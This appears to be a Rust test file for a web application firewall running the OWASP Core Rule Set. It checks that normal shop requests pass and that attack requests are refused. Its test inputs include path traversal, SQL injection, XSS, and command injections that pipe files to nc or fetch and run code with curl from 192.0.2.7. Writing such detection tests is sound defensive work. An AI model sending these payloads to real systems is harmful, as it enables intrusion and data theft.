//! The OWASP Core Rule Set of Debian's package `modsecurity-crs`, loaded as it is: setup, rules, exclusions.

#[allow(dead_code)]
mod requests;

use requests::{BENIGN, TEXTS};
use std::path::Path;
use std::sync::{Arc, OnceLock};

use seawall_diag::SourceMap;
use seawall_waf::{DiskFiles, Files, Options, Program, RequestLine, Scratch, Transaction, Verdict};

const LOAD: &str = "/usr/share/modsecurity-crs/owasp-crs.load";

fn program() -> Arc<Program> {
    static PROGRAM: OnceLock<Arc<Program>> = OnceLock::new();
    PROGRAM.get_or_init(|| load(false)).clone()
}

/// With our exclusions.
fn excluding() -> Arc<Program> {
    static PROGRAM: OnceLock<Arc<Program>> = OnceLock::new();
    PROGRAM.get_or_init(|| load(true)).clone()
}

fn load(exclusions: bool) -> Arc<Program> {
    let text = DiskFiles
        .read(Path::new(LOAD))
        .expect("the package modsecurity-crs is installed");
    let mut sources = SourceMap::default();
    let file = sources.add(LOAD, String::from_utf8(text).unwrap());
    let options = Options {
        exclusions,
        ..Options::default()
    };
    let program = Program::load(&mut sources, &[file], &DiskFiles, &options);
    Arc::new(program.unwrap_or_else(|found| panic!("{:#?}", found.lines(&sources))))
}

/// A browser's request: the verdict, and the rules that matched.
fn judge(method: &str, target: &str, kind: &str, body: &str) -> (Verdict, Vec<u32>) {
    judge_by(program(), method, target, kind, body, &[])
}

fn judge_by(
    program: Arc<Program>,
    method: &str,
    target: &str,
    kind: &str,
    body: &str,
    more: &[(&str, &str)],
) -> (Verdict, Vec<u32>) {
    let length = body.len().to_string();
    let mut fields: Vec<(&[u8], &[u8])> = vec![
        (b"Host", b"shop.test"),
        (
            b"User-Agent",
            b"Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0",
        ),
        (
            b"Accept",
            b"text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
        ),
        (b"Accept-Language", b"en-GB,en;q=0.7,de;q=0.3"),
        (b"Accept-Encoding", b"gzip, deflate, br, zstd"),
        (b"Referer", b"https://shop.test/category/shoes?page=2"),
        (b"Cookie", b"session=abcdef0123456789; theme=dark"),
        (b"Connection", b"keep-alive"),
    ];
    if !body.is_empty() {
        fields.push((b"Content-Type", kind.as_bytes()));
        fields.push((b"Content-Length", length.as_bytes()));
    }
    fields.retain(|(name, _)| {
        let same = |(more, _): &(&str, &str)| more.as_bytes().eq_ignore_ascii_case(name);
        !more.iter().any(same)
    });
    fields.extend(more.iter().map(|(n, v)| (n.as_bytes(), v.as_bytes())));
    let mut transaction = Transaction::begin(program, Scratch::new());
    let mut verdict = transaction.request_head(&RequestLine {
        client: [192, 0, 2, 1].into(),
        method: method.as_bytes(),
        target: target.as_bytes(),
        protocol: b"HTTP/1.1",
        fields: &fields,
    });
    transaction.body_chunk(body.as_bytes());
    if verdict == Verdict::Pass {
        verdict = transaction.request_end();
    }
    let ids = transaction.matches().iter().map(|m| m.rule).collect();
    (verdict, ids)
}

#[test]
fn a_browser_passes_without_a_match() {
    let form = "application/x-www-form-urlencoded";
    let part = "multipart/form-data; boundary=B";
    let upload = "--B\r\nContent-Disposition: form-data; name=\"photo\"; filename=\"cat.jpg\"\r\nContent-Type: image/jpeg\r\n\r\n\u{fffd}JFIF\r\n--B--\r\n";
    for (method, target, kind, body) in [
        ("GET", "/", "", ""),
        (
            "GET",
            "/product/42?color=red&size=XL&q=running+shoes",
            "",
            "",
        ),
        (
            "POST",
            "/cart",
            form,
            "sku=A-1&quantity=2&note=Please+wrap+it",
        ),
        (
            "POST",
            "/api/cart",
            "application/json",
            r#"{"items":[{"sku":"A-1","quantity":2}]}"#,
        ),
        ("POST", "/upload", part, upload),
    ] {
        assert_eq!(
            judge(method, target, kind, body),
            (Verdict::Pass, vec![]),
            "{method} {target}"
        );
    }
}

#[test]
fn each_family_of_attacks_is_refused() {
    let form = "application/x-www-form-urlencoded";
    for (target, body, rule) in [
        ("/?f=../../../../etc/passwd", "", 930100),
        ("/?u=http://192.168.1.1/x.txt?", "", 931100),
        ("/?c=;cat%20/etc/passwd", "", 932160),
        ("/?p=%3C?php%20phpinfo();", "", 933100),
        ("/?q=%3Cscript%3Ealert(1)%3C/script%3E", "", 941100),
        ("/?q=%27%20or%201%3D1%20union%20select%20null--", "", 942100),
        ("/?x=java.lang.Runtime", "", 944100),
        ("/x", "q=%27+or+1%3D1--+-", 942100),
    ] {
        let method = if body.is_empty() { "GET" } else { "POST" };
        let (verdict, ids) = judge(method, target, form, body);
        assert!(ids.contains(&rule), "{target}: {ids:?}");
        let denied = Verdict::Deny {
            status: 403,
            rule: 949110,
        };
        assert_eq!(verdict, denied, "{target}: {ids:?}");
    }
}

#[test]
fn only_what_has_no_place_here_is_warned_of() {
    let program = program();
    let mut codes: Vec<&str> = program.warnings().iter().map(|d| d.code).collect();
    codes.dedup();
    codes.sort_unstable();
    codes.dedup();
    assert_eq!(codes, ["absent-variable", "never-matches"]);
    assert!(program.judges_responses());
}

const FORM: &str = "application/x-www-form-urlencoded";

/// A text in a field of a form, and in one of JSON.
fn written(text: &str) -> [(&'static str, String); 2] {
    let escaped: String = text.bytes().map(|b| format!("%{b:02X}")).collect();
    let json: String = text
        .chars()
        .map(|c| match c {
            '\n' => "\\n".to_owned(),
            '"' | '\\' => format!("\\{c}"),
            c => c.to_string(),
        })
        .collect();
    [
        (FORM, format!("stars=5&title=It%27s+fine&text={escaped}")),
        (
            "application/json",
            format!(r#"{{"title":"It's fine","review":{{"text":"{json}"}}}}"#),
        ),
    ]
}

/// Search terms that read as code to the Core Rule Set still; search fields are where attackers look first, so nothing is
/// excluded from them.
const STILL_REFUSED: &[&str] = &[
    "/search?q=union+select+committee",
    "/search?q=JavaScript%3A+The+Good+Parts",
    "/search?q=black+%26+decker%3B+cat+food",
    "/search?q=operating+system+%28Linux%29",
    "/search?q=%24%7Bname%7D+template",
    "/search?q=echo+dot%3B+speaker",
    "/search?q=List%3CObject%3E+items",
    "/search?q=having+fun+%3D+good",
];

#[test]
fn with_the_exclusions_an_ordinary_site_is_not_refused() {
    let mut refused = Vec::new();
    for case in BENIGN {
        let (method, target) = (case.method, case.target);
        let (verdict, ids) = judge_by(
            excluding(),
            method,
            target,
            case.content_type,
            case.body,
            case.fields,
        );
        if (verdict != Verdict::Pass) != STILL_REFUSED.contains(&target) {
            refused.push(format!("{method} {target} {}: {ids:?}", case.body));
        }
    }
    let bodies = TEXTS.iter().flat_map(|text| written(text));
    for (kind, body) in bodies {
        for method in ["POST", "PUT", "PATCH"] {
            let (verdict, ids) = judge_by(excluding(), method, "/reviews/1", kind, &body, &[]);
            if verdict != Verdict::Pass {
                refused.push(format!("{method} {kind} {body}: {ids:?}"));
            }
        }
    }
    assert!(refused.is_empty(), "{}", refused.join("\n"));
}

#[test]
fn without_them_the_core_rule_set_refuses_what_people_write() {
    let (kind, body) = &written(TEXTS[0])[0];
    let (verdict, ids) = judge("POST", "/reviews/1", kind, body);
    assert!(verdict != Verdict::Pass && ids.contains(&932115), "{ids:?}");
}

#[test]
fn what_a_field_of_text_is_excluded_from_is_looked_for_by_stricter_rules() {
    for (attack, rule) in [
        ("fine; cat ../../x | nc 192.0.2.7 99", 190_100),
        ("fine $(curl http://192.0.2.7/x | sh)", 190_100),
        ("(\"system\")(\"ls\");", 190_110),
        ("x\r\nGET /admin HTTP/1.1\r\nHost: a", 190_120),
        ("1'; drop table users", 190_130),
        ("1); select sleep(5)", 190_130),
        ("' or 1=1 -- -", 942_100),
        ("<img src=x onerror=alert(1)>", 941_100),
        ("../../../etc/passwd", 930_120),
    ] {
        let (kind, body) = &written(attack)[0];
        let (verdict, ids) = judge_by(excluding(), "POST", "/reviews", kind, body, &[]);
        assert!(
            verdict != Verdict::Pass && ids.contains(&rule),
            "{attack}: {ids:?}"
        );
    }
    // Other fields are looked at by all rules.
    let body = "host=fine%3B+select+the&x=1";
    let (verdict, _) = judge_by(excluding(), "POST", "/reviews", FORM, body, &[]);
    assert_ne!(verdict, Verdict::Pass);
}
